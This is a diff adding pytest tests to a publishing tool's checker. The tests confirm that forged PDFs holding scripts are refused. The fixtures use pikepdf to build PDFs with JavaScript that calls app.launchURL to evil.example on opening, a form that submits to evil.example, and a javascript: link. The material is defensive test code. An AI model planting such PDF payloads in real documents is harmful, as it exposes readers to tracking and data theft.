@@ -445,3 +445,86 @@ def test_a_search_index_whose_separator_is_a_pattern_of_its_own_is_not_served(tm
     assert found == [f"fr/2021-02-17/search/search_index.json: refused: the search index's separator "
                      f"“{separator or '…'}” is a pattern the theme runs in the page of every reader who searches; "
                      "Material's search writes one class of characters, repeated (`[\\s\\-]+`)"], found
+
+
+def _forged_pdf(data: bytes, forge) -> bytes:
+    """A printed PDF with what `forge(pdf)` adds, saved with its objects packed in object streams, as publishing's are."""
+    import io
+
+    import pikepdf
+
+    with pikepdf.open(io.BytesIO(data)) as pdf:
+        forge(pdf)
+        out = io.BytesIO()
+        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return out.getvalue()
+
+
+def _script(pdf):
+    import pikepdf
+
+    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
+                                                JS=pikepdf.String("app.launchURL('https://evil.example/', true);")))
+
+
+def _open_action(pdf):
+    pdf.Root.OpenAction = _script(pdf)
+
+
+def _named_script(pdf):
+    import pikepdf
+
+    pdf.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), _script(pdf)]))
+
+
+def _form(pdf):
+    import pikepdf
+
+    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
+    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Rect=[0, 0, 100, 20], A=submit))]))
+
+
+def _script_link(pdf):
+    import pikepdf
+
+    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 20],
+        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert(1)"))))]))
+
+
+@pytest.mark.filterwarnings("ignore:This document has 1 form widget")  # (pikepdf, of the forged form)
+def test_a_pdf_that_runs_sends_or_opens_anything_is_not_served(tmp_path):
+    """A hand commit named as a rebuild replaced a version's PDF, its digest in the manifest, by one running
+    `app.launchURL('https://evil.example/')` on opening (Chromium's viewer runs a PDF's scripts), and `policy publish`
+    served it (exit 0): servedpages read pages, scripts and XML only. A PDF is read now as a viewer reads it (pikepdf:
+    objects packed in object streams), and one holding a script (on opening, or in the document's name tree), a form
+    that sends what a reader types, or a `javascript:` link is refused, the branch as it was; the PDF publishing prints
+    passes and is kept by blob id."""
+    project = new_project(tmp_path / "project")
+    project.commit("2021-02-17")
+    project.publish()
+    name = "en/2021-02-17/policy-en-2021-02-17.pdf"
+    printed = subprocess.run(["git", "cat-file", "blob", f"gh-pages:{name}"], cwd=project.root, capture_output=True,
+                             check=True).stdout
+    forged = {f"en/x/{forge.__name__}.pdf": _forged_pdf(printed, forge)
+              for forge in (_open_action, _named_script, _form, _script_link)}
+
+    def blob(data: bytes) -> str:
+        return subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=project.root, input=data,
+                              capture_output=True, check=True).stdout.decode().strip()
+
+    with opened(project.root) as site:
+        listing = {name: ("100644", blob(printed)), **{path: ("100644", blob(data)) for path, data in forged.items()}}
+        found = servedpages.unsafe(site, listing)
+        assert [line.partition(": ")[0] for line in found] == sorted(forged), found
+        assert all(": refused: a PDF holding “" in line for line in found), found
+        assert blob(printed) in passcache.blobs_passed(site.passed, text=False, scripts=servedpages._PDF_RULES)
+
+    def forge(work):
+        data = forged["en/x/_open_action.pdf"]
+        (work / name).write_bytes(data)
+        _in_manifest(work, {"policy-en-2021-02-17.pdf": data})
+
+    _on_branch(project, tmp_path, forge, "Rebuild 2021-02-17 (en, fr) from 0123456789ab")
+    _publish_refused(project, f"error: {name}: refused: a PDF holding “/OpenAction”")
